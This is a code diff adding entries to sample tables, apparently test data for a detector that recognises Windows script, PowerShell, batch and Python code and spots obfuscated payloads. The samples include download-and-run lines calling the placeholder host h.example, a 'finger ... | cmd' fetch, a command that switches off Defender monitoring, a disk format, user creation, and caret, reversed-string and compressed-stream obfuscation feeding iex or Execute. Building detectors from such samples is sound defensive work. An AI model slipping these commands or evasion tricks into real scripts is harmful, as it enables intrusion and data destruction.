@@ -25,16 +25,19 @@ def look(text: str | bytes, *names: str) -> list[tuple[str, str]]:
 CODE = {
     "Windows script code": (
         "Execute(StrReverse(x))\n", "Execute d(\"ebmd\")\n", "Sub Window_OnLoad\nself.close\nEnd Sub\n", "Call CreateObject(n).Navigate(u)\n",
-        "Private Sub Class_Initialize\r\nx = 1\r\nEnd Sub\r\n"),
+        "Private Sub Class_Initialize\r\nx = 1\r\nEnd Sub\r\n",
+        "For i=1 To Len(a) Step 2 : b=b&ChrW(\"&H\"&Mid(a,i,2)) : Next\n"),
     "PowerShell code": (
         "Write-Host lab\n", "Set-MpPreference -DisableRealtimeMonitoring $true\n", "$w=[wmiclass]'Win32_Process'\n", "Get-ChildItem -Recurse | Remove-Item\n",
         "[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)\n", "& (gcm i*x) (irm h.example/a)\n", "param([string]$u)\n",
-        "'calc' | % { & $_ }\n", "$c=New-Object Net.Sockets.TCPClient('h.example',1)\n", "powershell.exe -File a.ps1 \n"),
+        "'calc' | % { & $_ }\n", "$c=New-Object Net.Sockets.TCPClient('h.example',1)\n", "powershell.exe -File a.ps1 \n",
+        "$ExecutionContext.\"Inv`okeCommand\".NewScriptBlock($a)\n"),
     "Windows commands": (
         "for %%i in (a b c) do @%%i.exe\n", "if exist %temp%\\a (a.exe)\n", "format c: /q /y\n", "pushd \\\\h.example\\s && a.exe\n", "cd /d %appdata%\n",
         "wmic os get /format:\"http://h.example/a.xsl\"\n", "\"%ProgramFiles%\\a\\a.exe\" /s\n", "net user a b /add\n", "echo x>a.vbs\n", "\"%~dp0a\"\n",
         "taskkill /f /im a.exe\n", "copy /b a+b c & c\n",
-        ",;,cmd.exe,;,/c,;,start;calc\n", "@%comspec:~-7,1%cho off\n", "wsl -e bash -c id\n", "((cmd /c calc))\n"),
+        ",;,cmd.exe,;,/c,;,start;calc\n", "@%comspec:~-7,1%cho off\n", "wsl -e bash -c id\n", "((cmd /c calc))\n",
+        "cmd /v:on /c \"set p=a&&!p!\"\n", "finger a@h.example | cmd\n"),
     "Python code": (
         "def main():\n    pass\n", "import pty;pty.spawn('/bin/sh')\n", "import pathlib,webbrowser\n", "try:\n    import winreg\nexcept ImportError:\n    pass\n",
         "eval(compile(open('a').read(),'a','exec'))\n", "if __name__ == '__main__':\n", "from os.path import join\n",
@@ -105,6 +108,11 @@ HIDES = (
     "# report\r\nvar q=WScript['Create'+'Object'](p);q['R'+'un']('calc',0);\r\n",
     "ExecuteGlobal \"C\"+\"r\"+\"eateObject(\"\"WScript.Shell\"\").Run(\"\"calc\"\")\"\r\n",
     "k=b'0'*16\nexec(AES.new(k,AES.MODE_ECB).decrypt(base64.b64decode('AA==')))\n",
+    "(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($d,$m))).ReadToEnd()|iex\n",
+    "sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream($d,1)),$e)).ReadToEnd()\n",
+    "var _0x1a2b=['WScript','Run'];(function(a,b){while(--b){a['push'](a['shift']())}}(_0x1a2b,0x5));\n",
+    "p^o^w^e^r^s^h^e^l^l,;-^n^o^p,;-c \"i^e^x\"\n", "$(rev<<<'lruc') h.example | $(rev<<<'hsab')\n",
+    "k=7\nz=\"\"\nFor Each c In Split(\"94,90\",\",\")\nz=z&Chr(CInt(c)-k)\nNext\nExecute(z)\n",
     "set q=abc\n@%q:~0,1%%q:~1,1%%q:~2,1%&%q:~0,1%%q:~1,1%\n",
 )
 
